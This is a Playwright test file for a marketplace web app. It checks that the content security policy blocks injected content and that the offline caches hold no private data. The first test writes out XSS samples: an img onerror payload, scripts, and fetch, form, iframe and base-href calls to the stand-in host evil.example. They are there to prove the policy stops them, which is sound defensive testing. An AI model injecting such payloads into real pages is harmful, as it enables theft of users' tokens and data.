// What somebody can do who got something into a page, and what a device keeps where anybody may look.
import type { Page } from '@playwright/test';
import { paths } from '#paths';
import { allStored } from './cached.ts';
import { test as deviceTest, expect, installed } from './journey.ts';
import { test, visit } from './screens/ground.ts';
import { logIn } from './steps.ts';

const EVIL = 'https://evil.example';

test('injected content does not run, loads nothing, sends nothing and creates no policy', {
  tag: '@essential',
}, async ({ browser, market }) => {
  // Not the window that may make no noise: each of these attempts does.
  const context = await browser.newContext({ baseURL: market.url, serviceWorkers: 'block' });
  const reached: string[] = [];
  await context.route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: 'window.intruder = "loaded"', contentType: 'text/javascript' });
  });
  const page = await context.newPage();
  await visit(page, '/');
  const outcome = await page.evaluate(async (evil) => {
    const violated: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    Reflect.set(window, 'violated', violated);
    const element = <K extends keyof HTMLElementTagNameMap>(tag: K, set: (made: HTMLElementTagNameMap[K]) => void) => {
      const made = document.createElement(tag);
      set(made);
      document.body.append(made);
    };
    const attempts: Record<string, () => unknown> = {
      markup: () => Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.intruder = 1">'),
      script: () => element('script', (made) => made.append('window.intruder = "inline"')),
      loaded: () => element('script', (made) => Reflect.set(made, 'src', `${evil}/x.js`)),
      timer: () => Reflect.apply(setTimeout, window, ['window.intruder = "timer"']),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('intruder', { createHTML: (text: string) => text }),
      picture: () => element('img', (made) => Reflect.set(made, 'src', `${evil}/token.png`)),
      frame: () => element('iframe', (made) => Reflect.set(made, 'src', `${evil}/frame`)),
      style: () => element('style', (made) => made.append('body { display: none }')),
      base: () => element('base', (made) => Reflect.set(made, 'href', `${evil}/`)),
      form: () =>
        element('form', (made) => {
          made.action = `${evil}/form`;
          made.submit();
        }),
    };
    const thrown = Object.keys(attempts).filter((name) => {
      try {
        attempts[name]?.();
        return false;
      } catch {
        return true;
      }
    });
    const sent = await fetch(`${evil}/token`).then(
      () => true,
      () => false,
    );
    const { display } = getComputedStyle(document.body);
    return { thrown, sent, display, base: document.baseURI };
  }, EVIL);
  expect(outcome.thrown).toEqual(['markup', 'loaded', 'timer', 'policy']);
  expect(outcome.sent).toBe(false);
  const refused = ['base-uri', 'connect-src', 'frame-src', 'img-src', 'style-src-elem', 'trusted-types'];
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'violated')))
    .toEqual(expect.arrayContaining(refused));
  expect(outcome.display).not.toBe('none');
  expect(outcome.base).not.toContain('evil');
  expect(await page.evaluate(() => Reflect.get(window, 'intruder'))).toBeUndefined();
  await expect(page).toHaveURL(`${market.url}/`);
  expect(reached).toEqual([]);
  await context.close();
});

const storedAnswer = (page: Page, path: string): Promise<object> =>
  page.evaluate(
    async (address) => (await (await caches.open('etal-answers')).match(address, { ignoreVary: true }))?.json(),
    path,
  );

/** A page that received an answer before the worker was active stores what it has read of it. */
const withoutContext = (answer: object) => ({ ...answer, '@context': undefined, 'hydra:search': undefined });

deviceTest(
  'after every page of a merchant and a shopper the caches hold nothing but what anybody gets without a token',
  async ({ device, market }) => {
    const page = await (await device()).open();
    await page.goto(paths.login);
    await installed(page);
    await logIn(page, 'fromagerie@etal.test');
    const own = Object.values(paths).filter((path) => /^\/(admin|compte|commande)\b/.test(path) && !path.includes(':'));
    expect(own.length).toBeGreaterThan(20);
    for (const path of own) {
      await page.goto(path);
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    }
    const entries = await allStored(page);
    const answers = entries.filter(({ cache }) => cache === 'etal-answers');
    expect(answers.length).toBeGreaterThan(5);
    for (const { cache, path } of entries) {
      const anonymous = await fetch(market.url + path);
      expect(anonymous.status, path).toBe(200);
      if (cache !== 'etal-answers') continue;
      expect(withoutContext(await storedAnswer(page, path)), path).toEqual(withoutContext(await anonymous.json()));
    }
  },
);
